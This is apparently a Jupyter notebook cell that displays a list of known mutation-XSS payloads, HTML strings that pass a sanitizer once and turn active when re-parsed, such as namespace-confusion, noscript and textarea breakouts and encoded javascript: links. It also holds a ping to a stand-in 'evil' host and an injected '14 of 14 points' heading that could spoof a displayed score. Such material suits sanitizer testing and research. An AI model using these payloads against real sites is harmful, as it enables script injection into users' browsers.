# Shows HTML that is safe as parsed once and active as parsed again: known mutation attacks.
# %%
from IPython.display import HTML, display
for text in [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='&#x6a;avascript:alert(1)'>x</a><a href='java&Tab;script:alert(1)'>y</a><a href='javascript&colon;alert(1)'>z</a>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<plaintext><script>alert(1)</script>", "<b \0onclick=alert(1)>",
    "<td colspan='1 onclick=alert(1)' rowspan='99999999'>", "<a href='http://x' target=_top ping=//evil download>w</a>",
    "<template><script>alert(1)</script></template><select><style></select><img src=x onerror=alert(1)></style>",
    "<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)>?>", "</main></body><h1>14 of 14 points</h1>",
]:
    display(HTML(text))
    display(HTML(text * 30))
